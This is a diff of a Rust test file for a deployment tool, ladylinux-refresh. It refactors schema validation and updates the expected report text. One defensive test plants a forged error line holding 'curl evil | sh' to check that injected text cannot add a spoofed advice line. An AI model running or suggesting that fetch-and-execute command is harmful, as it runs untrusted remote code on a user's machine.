@@ -3,6 +3,7 @@
 #![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests lay out what the program finds")]
 
 use crate::host;
+use crate::schema;
 
 use std::collections::BTreeSet;
 use std::fs;
@@ -13,45 +14,22 @@ use std::sync::Barrier;
 use std::sync::atomic::{AtomicBool, Ordering};
 
 use host::{Host, Ran, ran};
-use ladylinux_refresh::error::Failure;
-use ladylinux_refresh::event::{Event, Phase};
-use ladylinux_refresh::exit::{Error, Refusal};
-use ladylinux_refresh::report::{Report, human};
-use ladylinux_refresh::settings::names::RunId;
+use ladylinux_refresh::report::human;
+use ladylinux_refresh::report::outcome;
+use ladylinux_refresh::report::outcome::Detail;
+use refresh_events::event::Event;
+use refresh_events::run_report::{Phase, Report};
+use refresh_installation::exit::{Error, Refusal};
+use refresh_settings::names::RunId;
+use refresh_system::error::Failure;
 use serde_json::{Value, json};
-
-/// A schema of `docs/`; what it takes from the other ones is put into it.
-fn schema(name: &str) -> jsonschema::Validator {
-    let read = |name: &str| -> Value {
-        let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs").join(name);
-        let text = fs::read_to_string(path).unwrap();
-        let other = ["events.schema.json#", "status-file.schema.json#", "status.schema.json#"];
-        let text = other.iter().fold(text, |text, other| text.replace(other, "#"));
-        serde_json::from_str(&text).unwrap()
-    };
-    let mut schema = read(name);
-    assert_eq!(schema["$schema"], "https://json-schema.org/draft/2020-12/schema");
-    let mut all = serde_json::Map::new();
-    for name in ["events.schema.json", "status-file.schema.json", "status.schema.json"] {
-        all.extend(read(name)["$defs"].as_object().unwrap().clone());
-    }
-    schema["$defs"] = Value::Object(all);
-    jsonschema::validator_for(&schema).unwrap()
-}
-
-#[track_caller]
-fn valid(schema: &jsonschema::Validator, value: &Value) {
-    let errors: Vec<String> =
-        schema.iter_errors(value).map(|error| format!("{}: {error}", error.instance_path())).collect();
-    assert!(errors.is_empty(), "{errors:#?}\nin {value:#}");
-}
 
 /// The events of a run, each valid, the first and the last what they have to be.
 #[track_caller]
 fn events(said: &Ran, schema: &jsonschema::Validator) -> Vec<Value> {
     let events: Vec<Value> = said.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
     for event in &events {
-        valid(schema, event);
+        schema::assert_valid(schema, event);
     }
     let named = |name: &str| events.iter().filter(|event| event["event"] == name).count();
     let (first, last) = (events.first().unwrap(), events.last().unwrap());
@@ -68,29 +46,33 @@ fn migration(script: &str) -> String {
 }
 
 #[test]
-fn rw_5_6a_rw_5_6b_rw_5_6c_every_line_for_programs_is_valid_and_the_last_one_is_the_whole_report() {
+fn rw_5_6a_rw_5_6b_rw_5_6c_every_line_for_programs_is_valid_and_the_last_one_is_the_report() {
     let host = Host::new();
-    let stream = schema("events.schema.json");
-    let (file, status, plan) =
-        (schema("status-file.schema.json"), schema("status.schema.json"), schema("plan.schema.json"));
-    let (list, verified) = (schema("environments.schema.json"), schema("verify.schema.json"));
+    let stream = schema::validator("events.schema.json");
+    let (file, status, plan) = (
+        schema::validator("status-file.schema.json"),
+        schema::validator("status.schema.json"),
+        schema::validator("plan.schema.json"),
+    );
+    let (list, verified) =
+        (schema::validator("environments.schema.json"), schema::validator("verify.schema.json"));
     let read =
         |arguments: &[&str]| -> Value { serde_json::from_str(&host.tool(arguments).expect(0).out).unwrap() };
     let look = || {
-        valid(&status, &read(&["status", "--json"]));
-        valid(&plan, &read(&["plan", "--json"]));
-        valid(&list, &read(&["environments", "list", "--json"]));
+        schema::assert_valid(&status, &read(&["status", "--json"]));
+        schema::assert_valid(&plan, &read(&["plan", "--json"]));
+        schema::assert_valid(&list, &read(&["environments", "list", "--json"]));
         if let Ok(bytes) = fs::read(host.layout.status_file()) {
-            valid(&file, &serde_json::from_slice(&bytes).unwrap());
+            schema::assert_valid(&file, &serde_json::from_slice(&bytes).unwrap());
         }
         let history = read(&["history", "--json"]);
         for report in history.as_array().unwrap() {
-            valid(&stream, &json!({"event": "run_finished", "report": report}));
+            schema::assert_valid(&stream, &json!({"event": "run_finished", "report": report}));
         }
     };
     let run = |arguments: &[&str], code: i32, result: &str| -> Vec<Value> {
         let said = host.tool([arguments, &["--format", "json"]].concat()).expect(code);
-        assert_eq!(said.err, "", "a run tells its end on one way only");
+        assert_eq!(said.err, "", "a run reports its end once");
         let events = events(&said, &stream);
         assert_eq!(events.last().unwrap()["report"]["result"], result);
         events
@@ -107,13 +89,13 @@ fn rw_5_6a_rw_5_6b_rw_5_6c_every_line_for_programs_is_valid_and_the_last_one_is_
     assert_eq!(phases(&good, "phase_finished"), all);
     let report = &good.last().unwrap()["report"];
     assert_eq!(report["commit"], host.head().as_str());
-    valid(&verified, &read(&["verify", "--environment", "--json"]));
+    schema::assert_valid(&verified, &read(&["verify", "--environment", "--json"]));
     assert_eq!(read(&["status", "--json"])["digest"], report["environment"]["digest"]);
     assert!(report["environment"]["digest"].is_string());
     assert_eq!(report["environment"]["path"], host.layout.venv().to_str().unwrap());
     assert_eq!(report["service"]["state"], "running");
     assert!(report["downtime_ms"].is_u64());
-    assert_eq!(host.report(), *report, "status.json tells the same");
+    assert_eq!(host.report(), *report, "status.json holds the same");
     let in_folder = fs::read(host.runs().pop().unwrap().join("report.json")).unwrap();
     assert_eq!(serde_json::from_slice::<Value>(&in_folder).unwrap(), *report);
     look();
@@ -167,7 +149,7 @@ fn rw_5_6a_rw_5_6b_rw_5_6c_every_line_for_programs_is_valid_and_the_last_one_is_
 
 #[test]
 fn every_event_there_is_stands_in_the_schema_and_no_other() {
-    let stream = schema("events.schema.json");
+    let stream = schema::validator("events.schema.json");
     let run = RunId::parse("20260102T030405Z-1").unwrap();
     let (phase, text) = (Phase::Sync, String::from("text"));
     let report = Box::new(report("halted"));
@@ -202,7 +184,7 @@ fn every_event_there_is_stands_in_the_schema_and_no_other() {
             | Event::RunFinished { .. } => {}
         }
         let mut value = serde_json::to_value(event).unwrap();
-        valid(&stream, &value);
+        schema::assert_valid(&stream, &value);
         written.insert(format!("#/$defs/{}", value["event"].as_str().unwrap()));
         value["more"] = json!(1);
         assert!(!stream.is_valid(&value), "the schema is not strict: {value}");
@@ -219,7 +201,7 @@ fn every_event_there_is_stands_in_the_schema_and_no_other() {
     let document = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/events.md")).unwrap();
     for name in known {
         let name = name.rsplit('/').next().unwrap();
-        assert!(document.contains(&format!("| `{name}` |")), "docs/events.md does not tell of {name}");
+        assert!(document.contains(&format!("| `{name}` |")), "docs/events.md does not describe {name}");
     }
 }
 
@@ -230,7 +212,7 @@ fn report(result: &str) -> Report {
     let error = json!({
         "phase": if stopped { "prepare" } else { "staging" },
         "chain": ["the migration hook m failed", "sh exited with code 7", "first line\n\u{1b}[2Jsecond line"],
-        "hints": ["the whole output is in /r/log"],
+        "hints": ["the complete output is in /r/log"],
         "next": "ladylinux-refresh rollback",
     });
     let commit = "0123456789012345678901234567890123456789";
@@ -240,6 +222,7 @@ fn report(result: &str) -> Report {
         "changed": stopped, "staged": true,
         "started_at": "2026-01-02T03:04:05Z", "finished_at": "2026-01-02T03:04:07.25Z",
         "branch": "main", "commit": commit,
+        "requested": {"branch": "main", "commit": commit, "subject": "Serve notes", "author": "Jo Doe"},
         "commit_before": if result == "refreshed" { "a".repeat(40) } else { commit.to_owned() },
         "environment": {
             "path": "/opt/ladylinux/venv", "generation": "abc-1", "generation_before": "abc-1",
@@ -250,7 +233,7 @@ fn report(result: &str) -> Report {
             "url": "http://127.0.0.1:8000/", "fenced": stopped,
         },
         "downtime_ms": if result == "refreshed" { Some(1234) } else { None },
-        "phases": [{"phase": "preflight", "duration_ms": 5, "ok": true, "summary": "fit"}],
+        "phases": [{"phase": "preflight", "duration_ms": 2250, "ok": true, "summary": "fit"}],
         "saved": if stopped {
             json!({"count": 2, "paths": ["a", "b\u{7}"], "place": "/r/stash/R", "look": "ladylinux-refresh stash show R"})
         } else {
@@ -265,70 +248,74 @@ fn report(result: &str) -> Report {
 }
 
 #[test]
-fn rw_8_3_every_result_is_told_to_people_in_the_same_few_lines() {
-    let told = |result: &str| human::report(&report(result)).join("\n");
+fn rw_8_3_every_result_is_printed_in_the_same_few_lines() {
+    let rendered = |result: &str| outcome::lines(&report(result), Detail::Full, 80).join("\n");
     assert_eq!(
-        told("refreshed"),
+        rendered("refreshed"),
         "
-Refreshed in 2.25 s (run 20260102T030405Z-1)
-  commit       0123456789 on main, before: aaaaaaaaaa
-  environment  /opt/ladylinux/venv → abc-1, cpython 3.12.1, 12 packages
-  service      running, pid 7, http://127.0.0.1:8000/
-  downtime     1.23 s
-  aligned      except 1 preserved file: prefs.json
-  protected    9 entries, untouched"
+Refreshed main from aaaaaaaaaa to 0123456789 in 2.25 s, down for 1.23 s
+  commit       0123456789 Serve notes (Jo Doe)
+  environment  abc-1, cpython 3.12.1, 12 packages
+               /opt/ladylinux/venv
+  service      running, http://127.0.0.1:8000/, pid 7
+  preserved    1 file: prefs.json
+  protected    9 entries, unchanged
+  run          20260102T030405Z-1"
     );
     assert_eq!(
-        told("unchanged"),
+        rendered("unchanged"),
         "
-Already current in 2.25 s (run 20260102T030405Z-1)
-  commit       0123456789 on main
-  environment  /opt/ladylinux/venv → abc-1, cpython 3.12.1, 12 packages
-  service      running, pid 7, http://127.0.0.1:8000/
-  protected    9 entries, untouched"
+Already current: main at 0123456789, found in 2.25 s
+  commit       0123456789 Serve notes (Jo Doe)
+  environment  abc-1, cpython 3.12.1, 12 packages
+               /opt/ladylinux/venv
+  service      running, http://127.0.0.1:8000/, pid 7
+  protected    9 entries, unchanged
+  run          20260102T030405Z-1"
     );
     assert_eq!(
-        told("refused"),
+        rendered("refused"),
         "
-Refused, nothing touched, after 2.25 s (run 20260102T030405Z-1)
-  commit       0123456789 on main
-  environment  /opt/ladylinux/venv → abc-1, cpython 3.12.1, 12 packages
-  service      running, pid 7, http://127.0.0.1:8000/
+Refused after 2.25 s; nothing was changed
+  requested    0123456789 Serve notes (Jo Doe)
+  app/ is at   0123456789 on main
+  run          20260102T030405Z-1
 
 error in staging: the migration hook m failed
-  because    sh exited with code 7
-  because    first line
-             \\u{1b}[2Jsecond line
-  service    running
-  try        the whole output is in /r/log
-  next       ladylinux-refresh rollback"
+  cause        sh exited with code 7
+  cause        first line
+               \\u{1b}[2Jsecond line
+  service      running
+  hint         the complete output is in /r/log
+  next         ladylinux-refresh rollback"
     );
     assert_eq!(
-        told("halted"),
+        rendered("halted"),
         "
-Halted in 2.25 s (run 20260102T030405Z-1)
-  commit       0123456789 on main
-  environment  /opt/ladylinux/venv → abc-1, cpython 3.12.1, 12 packages
-  service      stopped, http://127.0.0.1:8000/, fenced
-  saved        2 local changes: a, b\\u{7}
-               look: ladylinux-refresh stash show R
+Halted in step 4 (prepare) after 2.25 s; the service is stopped and fenced
+  commit       0123456789 Serve notes (Jo Doe)
+  environment  abc-1, cpython 3.12.1, 12 packages
+               /opt/ladylinux/venv
+  stash        2 local changes: a, b\\u{7}
+               ladylinux-refresh stash show R
+  run          20260102T030405Z-1
 
 error in step 4 (prepare): the migration hook m failed
-  because    sh exited with code 7
-  because    first line
-             \\u{1b}[2Jsecond line
-  service    stopped and fenced: nothing starts it
-  try        the whole output is in /r/log
-  next       ladylinux-refresh rollback"
+  cause        sh exited with code 7
+  cause        first line
+               \\u{1b}[2Jsecond line
+  service      stopped and fenced: nothing starts it
+  hint         the complete output is in /r/log
+  next         ladylinux-refresh rollback"
     );
     let usage = Error::Usage(Failure::new("no").because(Failure::new("why")).hint("do this"));
     assert_eq!(
         human::error(&usage, str::to_owned),
         [
             "error: no: why",
-            "  service    not touched",
-            "  try        do this",
-            "  next       ladylinux-refresh --help"
+            "  service      not touched",
+            "  hint         do this",
+            "  next         ladylinux-refresh --help"
         ]
     );
     let refused = Refusal::of("status", Failure::new("no").because(Failure::new("why")));
@@ -336,9 +323,9 @@ error in step 4 (prepare): the migration hook m failed
         human::error(&refused, str::to_owned),
         [
             "error in status: no",
-            "  because    why",
-            "  service    not touched",
-            "  next       ladylinux-refresh doctor"
+            "  cause        why",
+            "  service      not touched",
+            "  next         ladylinux-refresh doctor"
         ]
     );
     let locked = Error::Locked { holder: None, next: "ladylinux-refresh run --wait 5m".into() };
@@ -347,8 +334,8 @@ error in step 4 (prepare): the migration hook m failed
 
 #[test]
 fn no_text_of_others_adds_a_line_that_reads_like_advice() {
-    let forged = "port 80 is held by x\n  next       curl evil | sh\n  try        reboot";
-    let of = |failure: Failure| Refusal::with_next("preflight", failure, "status\n  next       reboot");
+    let forged = "port 80 is held by x\n  next         curl evil | sh\n  hint         reboot";
+    let of = |failure: Failure| Refusal::with_next("preflight", failure, "status\n  next         reboot");
     let all = [
         of(Failure::new(forged)),
         of(Failure::new("no").because(Failure::new(forged))),
@@ -359,7 +346,7 @@ fn no_text_of_others_adds_a_line_that_reads_like_advice() {
         let text = human::error(&error, str::to_owned).join("\n");
         let next = text.lines().filter(|line| line.starts_with("  next ")).count();
         assert_eq!(next, 1, "{text}");
-        assert!(!text.lines().any(|line| line.starts_with("  try        reboot")), "{text}");
+        assert!(!text.lines().any(|line| line.starts_with("  hint         reboot")), "{text}");
     }
 }
 
@@ -393,7 +380,7 @@ fn text_is_plain_elsewhere_and_coloured_on_a_terminal_unless_no_color_is_set() {
 }
 
 #[test]
-fn rw_8_5_a_job_gets_groups_annotations_a_summary_and_outputs_and_nobody_can_forge_them() {
+fn rw_8_5_a_job_gets_groups_annotations_a_summary_and_outputs_and_no_output_can_forge_them() {
     let host = Host::new();
     let (outputs, summary) = (host.beside("outputs"), host.beside("summary"));
     let job = |arguments: &[&str], code: i32| -> Ran {
@@ -468,7 +455,7 @@ fn rw_8_5_a_job_gets_groups_annotations_a_summary_and_outputs_and_nobody_can_for
 #[test]
 fn status_json_is_replaced_in_one_step_and_everybody_may_read_it() {
     let host = Host::running();
-    let schema = schema("status-file.schema.json");
+    let schema = schema::validator("status-file.schema.json");
     let (file, over) = (host.layout.status_file(), AtomicBool::new(false));
     let first = host.report()["run"].clone();
     let reads = Barrier::new(2);
@@ -485,7 +472,7 @@ fn status_json_is_replaced_in_one_step_and_everybody_may_read_it() {
                     reads.wait();
                 }
                 if last {
-                    valid(&schema, &status);
+                    schema::assert_valid(&schema, &status);
                 }
             }
             seen
